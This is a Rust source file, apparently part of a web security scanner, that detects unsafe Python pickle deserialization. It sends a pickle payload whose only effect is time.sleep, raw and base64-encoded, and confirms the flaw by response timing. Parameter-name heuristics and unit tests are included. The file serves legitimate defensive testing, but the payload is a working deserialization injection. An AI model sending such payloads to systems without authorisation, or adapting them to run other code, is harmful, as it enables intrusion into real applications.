//! Unsafe deserialization (Python pickle), time-based: a protocol-0 pickle whose only effect is
//! `time.sleep(d)` — `ctime\nsleep\n(I{d}\ntR.` — sent raw and base64-encoded, with the same
//! pickle sleeping zero seconds as the control (see [`super::probe::time_confirmed`]). Only
//! where a pickle may travel: an application that unpickles a parameter fails on any value that
//! is not one, so the value it uses itself tells — the raw form where that value is empty or
//! ends like a protocol-0 pickle (`.`), the base64 form where it is base64; both where the
//! parameter's name says objects travel in it. One request per form when nothing is slow.

use super::client::Page;
use super::probe::{delay_secs, time_confirmed, Target};
use super::State;
use crate::rules;
use rampart_model::Finding;
use rampart_net::NetError;
use std::time::Duration;

/// The pickle that calls `time.sleep(d)` and nothing else.
pub fn pickle(d: u64) -> String {
    format!("ctime\nsleep\n(I{d}\ntR.")
}

/// Standard base64 with padding (RFC 4648 §4), what `base64.b64decode` reads.
fn base64(data: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(data)
}

/// Whether a parameter may carry a pickle, raw and base64-encoded: raw where its value is empty
/// or ends like a protocol-0 pickle, encoded where its value is base64 of some length (the whole
/// alphabet, padded to a multiple of 4); both where its name is one objects travel under.
fn may_carry_pickle(name: &str, value: &str) -> (bool, bool) {
    let v = value.trim();
    let base64_like = v.len() >= 8
        && v.len().is_multiple_of(4)
        && v.trim_end_matches('=')
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'));
    let name = name.to_ascii_lowercase();
    let named = [
        "pickle", "serial", "b64", "base64", "state", "session", "object", "obj", "data",
        "payload", "blob", "token", "cookie", "cache", "dump",
    ]
    .iter()
    .any(|w| name.contains(w));
    let raw_like = v.is_empty() || v.ends_with('.') && !v.contains(' ');
    (raw_like || named, base64_like || named)
}

pub async fn probe(
    state: &State,
    t: &Target<'_>,
    base: &Page,
    delay: Duration,
) -> Result<Option<Finding>, NetError> {
    let d = delay_secs(delay);
    let b64 = |s: String| base64(s.as_bytes());
    let forms = [
        ("raw", pickle(d), pickle(0)),
        ("base64", b64(pickle(d)), b64(pickle(0))),
    ];
    let (raw, encoded) = may_carry_pickle(t.name, t.orig);
    for (how, p, zero) in forms {
        if how == "base64" && !encoded || how == "raw" && !raw {
            continue;
        }
        let Some(m) = time_confirmed(state, t, base, &p, &zero, Duration::from_secs(d)).await?
        else {
            continue;
        };
        return Ok(Some(m.finding(
            t,
            rules::web_deserialization::RULE,
            &format!("pickle, {how}, time-based"),
            "a pickle calling time.sleep(0)",
            base,
            vec![format!(
                "the value ({how}) is a pickle whose only effect is time.sleep({d}): {:?}",
                pickle(d)
            )],
        )));
    }
    Ok(None)
}

#[cfg(test)]
mod tests {
    #[test]
    fn base64_as_python_writes_it() {
        // base64.b64encode(b"ctime\nsleep\n(I2\ntR.")
        assert_eq!(
            super::base64(super::pickle(2).as_bytes()),
            "Y3RpbWUKc2xlZXAKKEkyCnRSLg=="
        );
        assert_eq!(super::base64(b"ab"), "YWI=");
        assert_eq!(super::base64(b"abc"), "YWJj");
    }

    #[test]
    fn pickles_only_where_an_object_may_travel() {
        use super::may_carry_pickle as may;
        assert_eq!(may("q", "gASVCAAAAAAAAACMBGFiY2SULg=="), (false, true));
        assert_eq!(may("q", "N."), (true, false));
        assert_eq!(may("q", "(dp0\nS'a'\np1\nI1\ns."), (true, false));
        assert_eq!(may("q", ""), (true, false));
        assert_eq!(may("state", "x"), (true, true));
        assert_eq!(may("user_data", "abc"), (true, true));
        assert_eq!(may("q", "gnome"), (false, false));
        assert_eq!(may("id", "12"), (false, false));
        assert_eq!(may("name", "hello world."), (false, false));
    }
}
